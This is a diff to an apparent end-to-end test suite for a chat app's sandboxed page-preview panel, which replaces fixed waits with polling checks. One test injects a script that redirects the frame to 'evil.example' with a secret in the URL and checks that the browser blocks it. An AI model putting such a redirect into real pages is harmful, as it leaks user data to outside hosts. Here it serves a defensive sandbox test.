@@ -1,7 +1,7 @@
 // Looks at what a model wrote beside the chat, and holds the frame to having no way out.
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
-import { accessible, journeys, replies, say } from './harness.mjs';
+import { accessible, becomes, journeys, replies, say } from './harness.mjs';
 
 const journey = journeys();
 const button = (page, name) => page.getByRole('button', { name, exact: true });
@@ -40,8 +40,11 @@ journey('a page is shown beside the chat, in each of its versions', async (page)
   assert.equal(kept.suggestedFilename(), 'A small page.html');
   assert.equal(await readFile(await kept.path(), 'utf8'), html('First'));
   await button(page, 'Full screen').click();
-  const box = await panel(page).boundingBox();
-  assert.deepEqual([box.width, box.height], [1280, 800]);
+  const size = async () => {
+    const { width, height } = await panel(page).boundingBox();
+    return [width, height];
+  };
+  await becomes(size, [1280, 800]);
   await button(page, 'Leave full screen').click();
   await page.keyboard.press('Escape');
   await panel(page).waitFor({ state: 'detached' });
@@ -50,7 +53,7 @@ journey('a page is shown beside the chat, in each of its versions', async (page)
   await inside(page).getByRole('button').focus();
   await page.keyboard.press('Escape');
   await panel(page).waitFor({ state: 'detached' });
-  assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Preview');
+  await becomes(() => page.evaluate(() => document.activeElement.textContent), 'Preview');
 });
 
 journey('on a phone it lies over the chat', async (page) => {
@@ -62,7 +65,7 @@ journey('on a phone it lies over the chat', async (page) => {
   await page.getByRole('button', { name: 'Preview' }).click();
   await inside(page).locator('circle').waitFor();
   await page.getByRole('heading', { name: 'Dot', exact: true }).waitFor();
-  assert.equal((await panel(page).boundingBox()).width, 320);
+  await becomes(async () => (await panel(page).boundingBox()).width, 320);
   await accessible(page, 'artifact on a phone');
 });
 
@@ -126,10 +129,13 @@ journey('while it is written, a page opens on demand and grows in steps', async 
   await page.evaluate((text) => (globalThis.pieces = text.split(/(?=<p>)/)), fence('html', rows));
   let loads = 0;
   page.on('framenavigated', (frame) => frame.url().endsWith('/frame.html') && (loads += 1));
+  const started = Date.now();
   await say(page, 'Make rows', { wait: false });
   await page.getByRole('button', { name: 'Preview' }).click();
   await inside(page).getByText('row 39').waitFor();
-  assert.ok(loads >= 2 && loads <= 8, `${loads} loads in two seconds`);
+  // Twice a second at most, as long as it took here; and the first and the last one.
+  const most = (Date.now() - started) / 500 + 2;
+  assert.ok(loads >= 2 && loads <= most, `${loads} loads of ${most}`);
 });
 
 /** Each tries one way out; what it reaches is written into its own page. */
@@ -220,7 +226,8 @@ journey('the frame cannot go to another host either', async (page) => {
   await replies(page, fence('html', '<script>location = "https://evil.example/?secret"</script>'));
   await say(page, 'Go away');
   await page.getByRole('button', { name: 'Preview' }).click();
-  await page.waitForTimeout(1000);
+  // The browser says that it was kept from going there.
+  await becomes(async () => page.faults.some((fault) => fault.includes('evil.example')), true);
   assert.deepEqual(reached, []);
   page.faults.length = 0;
 });
